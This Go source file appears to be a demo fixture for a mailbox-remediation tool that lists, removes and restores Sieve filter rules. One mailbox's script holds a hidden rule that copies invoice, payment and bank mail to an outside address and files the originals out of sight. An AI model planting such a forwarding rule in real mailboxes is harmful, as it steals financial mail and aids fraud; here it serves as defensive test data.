package demo

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"

	"tocsin/internal/remediate"
	"tocsin/internal/remediate/sieve"
)

// Everybody sorts newsletters. Into one mailbox somebody broke.
const (
	usualRules  = "require [\"fileinto\"];\n# rule:[Newsletters]\nif header :contains \"list-id\" \"newsletter\" { fileinto \"News\"; }\n"
	brokenRules = "require [\"fileinto\", \"copy\"];\n# rule:[Newsletters]\nif header :contains \"list-id\" \"newsletter\" { fileinto \"News\"; }\n\n" +
		"# rule:[.]\nif header :contains \"subject\" [\"invoice\", \"payment\", \"bank\"] {\n    redirect :copy \"archive@mail-backup.example\";\n    fileinto \"RSS Feeds\";\n    stop;\n}\n"
	mainScript = "main"
)

// Broken is the mailbox that somebody broke into: it gets the invoices.
const Broken = "c.aubert@" + Domain

// script of a mailbox; needs the lock.
func (m *Mailboxes) script(address string) string {
	if text, changed := m.scripts[address]; changed {
		return text
	}
	if address == Broken {
		return brokenRules
	}
	return usualRules
}

// Script returns the only one there is.
func (b *mailbox) Script(ctx context.Context, name string) (string, error) {
	if err := b.wait(ctx); err != nil {
		return "", err
	}
	if name != mainScript {
		return "", remediate.ErrGone
	}
	b.m.mu.Lock()
	defer b.m.mu.Unlock()
	return b.m.script(b.address), nil
}

// Rules are those of that script.
func (b *mailbox) Rules(ctx context.Context) (out []remediate.MailboxRule, err error) {
	text, err := b.Script(ctx, mainScript)
	for i, r := range sieve.Cut(text) {
		out = append(out, remediate.MailboxRule{ID: fmt.Sprintf("%s;%d", r.Hash, i), Script: mainScript, Version: versionOf(text), Text: r.Text, Why: r.Why([]string{Domain})})
	}
	return out, err
}

func versionOf(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:16])
}

// RemoveRule takes one out.
func (b *mailbox) RemoveRule(ctx context.Context, rule remediate.MailboxRule, keep func(remediate.ScriptChange) error) error {
	text, err := b.Script(ctx, rule.Script)
	if err != nil {
		return err
	}
	if versionOf(text) != rule.Version {
		return remediate.ErrChanged
	}
	for i, r := range sieve.Cut(text) {
		if fmt.Sprintf("%s;%d", r.Hash, i) == rule.ID {
			return b.rewrite(remediate.ScriptChange{Script: rule.Script, Before: text, After: sieve.Without(text, r), At: r.Start}, keep)
		}
	}
	return remediate.ErrGone
}

// PutBack puts it where it stood.
func (b *mailbox) PutBack(ctx context.Context, out remediate.ScriptChange, keep func(remediate.ScriptChange) error) error {
	text, err := b.Script(ctx, out.Script)
	if err != nil {
		return err
	}
	after, ok := sieve.Restore(text, out.Before, out.After, out.At)
	if !ok {
		return remediate.ErrChanged
	}
	return b.rewrite(remediate.ScriptChange{Script: out.Script, Before: text, After: after, At: out.At}, keep)
}

func (b *mailbox) rewrite(x remediate.ScriptChange, keep func(remediate.ScriptChange) error) error {
	if err := keep(x); err != nil {
		return err
	}
	b.m.mu.Lock()
	defer b.m.mu.Unlock()
	if b.m.scripts == nil {
		b.m.scripts = map[string]string{}
	}
	b.m.scripts[b.address] = x.After
	return nil
}

// CanSignOut says yes: nobody is signed in.
func (b *mailbox) CanSignOut() error { return nil }

// SignOut has nobody to end the sessions of.
func (b *mailbox) SignOut(ctx context.Context) error { return b.wait(ctx) }

var _ remediate.FirstAid = (*mailbox)(nil)
